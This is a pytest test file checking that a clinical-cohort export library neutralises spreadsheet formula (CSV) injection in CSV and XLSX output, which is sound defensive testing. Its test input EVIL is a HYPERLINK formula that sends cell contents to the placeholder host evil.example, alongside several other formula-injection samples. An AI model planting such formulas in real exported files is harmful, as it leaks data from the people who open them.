"""Formula-safe writers (issue 17 item 3): no text a spreadsheet would run as a formula.

Anchor: OWASP, CSV Injection (prefix cells starting with = + - @ tab CR with a quote).
"""

from __future__ import annotations

import csv
import datetime as dt

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from iokit import LINE_COLUMNS, LINES, PATIENT_COLUMNS, PATIENTS, TODAY, make_cohort

from aftercar.io import (
    neutralise_formula,
    neutralise_table,
    read_cohort,
    write_cohort,
    write_template,
)

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click")'
RISKY = (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


def _risky_cohort(tmp_path):
    """The valid micro-cohort with formula-like text in ids and free-text columns."""
    patients = [list(r) for r in PATIENTS]
    lines = [list(r) for r in LINES]
    patients[0][0] = EVIL
    lines[0][0] = lines[1][0] = EVIL
    patients[1][PATIENT_COLUMNS.index("site")] = "+1+1"
    patients[2][PATIENT_COLUMNS.index("sex")] = "@SUM(A1)"
    lines[0][LINE_COLUMNS.index("regimen")] = "-Tec"
    lines[2][LINE_COLUMNS.index("end_reason")] = "=1+1"
    return read_cohort(make_cohort(tmp_path / "in", patients=patients, lines=lines), today=TODAY)


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_prefixed_with_a_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["ide-cel", "Dara-KPd", "P01", "", "'=already", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise_formula(text) == text


def test_neutralise_is_vectorised_over_arrow_pandas_and_numpy():
    values = [EVIL, "ok", None, "-2+3"]
    expected = ["'" + EVIL, "ok", None, "'-2+3"]
    assert neutralise_formula(pa.array(values)).to_pylist() == expected
    assert neutralise_formula(pa.chunked_array([values[:2], values[2:]])).to_pylist() == expected
    series = neutralise_formula(pd.Series(values, dtype="string"))
    assert series.dtype == "string" and series.tolist() == ["'" + EVIL, "ok", pd.NA, "'-2+3"]
    mixed = neutralise_formula(pd.Series(["=1", 3, None, dt.date(2020, 1, 1)], dtype=object))
    assert mixed.tolist() == ["'=1", 3, None, dt.date(2020, 1, 1)]
    assert neutralise_formula(np.array(["=1", "ok"])).tolist() == ["'=1", "ok"]
    assert neutralise_formula(pa.array([1, 2])).to_pylist() == [1, 2]  # numbers untouched
    table = neutralise_table(pa.table({"=x": ["=1", "a"], "n": [-1, 2]}))
    assert table.column_names == ["'=x", "n"] and table.column(0).to_pylist() == ["'=1", "a"]
    frame = neutralise_table(pd.DataFrame({"a": ["+A1", "b"], "n": [-1, 2]}))
    assert frame["a"].tolist() == ["'+A1", "b"] and frame["n"].tolist() == [-1, 2]


def test_a_plain_number_as_text_is_left_as_written():
    """``-8`` (a negative OMOP person_id as text) is read by a spreadsheet as the number,
    not run: it is written as it is, so other tools see the id (found by an adversarial
    review); anything else after the sign is still quoted."""
    values = ["-8", "+1.5", "-10 -9", "-1e3", "-8 ", "-", "@1"]
    assert neutralise_formula(pa.array(values)).to_pylist() == [
        "-8", "+1.5", "'-10 -9", "'-1e3", "'-8 ", "'-", "'@1"]
    assert [neutralise_formula(v) for v in values] == [
        "-8", "+1.5", "'-10 -9", "'-1e3", "'-8 ", "'-", "'@1"]


def _csv_cells(path):
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_cohort_has_no_cell_a_spreadsheet_would_run(tmp_path):
    cohort = _risky_cohort(tmp_path)
    written = write_cohort(cohort.patients, cohort.lines, tmp_path / "out")
    cells = [c for path in written for c in _csv_cells(path)]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + EVIL in cells and "'-Tec" in cells and "'=1+1" in cells


def test_xlsx_cohort_stores_text_never_a_formula(tmp_path):
    cohort = _risky_cohort(tmp_path)
    (path,) = write_cohort(cohort.patients, cohort.lines, tmp_path / "c.xlsx", format="xlsx")
    book = openpyxl.load_workbook(path)  # formulas kept as formulas, not results
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert book["patients"]["A2"].value == "'" + EVIL


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_neutralised_cohort_reads_back_unchanged(tmp_path, fmt):
    cohort = _risky_cohort(tmp_path)
    written = write_cohort(cohort.patients, cohort.lines, tmp_path / "out", format=fmt)
    again = read_cohort(written[0] if fmt == "xlsx" else tmp_path / "out", today=TODAY)
    for a, b in ((again.patients, cohort.patients), (again.lines, cohort.lines)):
        assert a.drop_columns(["source_row"]).equals(b.drop_columns(["source_row"]))
    assert again.patients.column("patient_id")[0].as_py() == EVIL


def test_template_holds_no_formula(tmp_path):
    path = write_template(tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert texts and not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_text_series_keeps_its_row_order_under_any_index():
    import pandas as pd

    from aftercar.io import neutralise_table

    frame = pd.DataFrame({"regimen": pd.array(["=x", "b", "a"], dtype="string"), "n": [1, 2, 3]})
    frame.index = [25, 7, 9]  # as after a sort
    out = neutralise_table(frame)
    assert out["regimen"].tolist() == ["'=x", "b", "a"] and out.index.tolist() == [25, 7, 9]
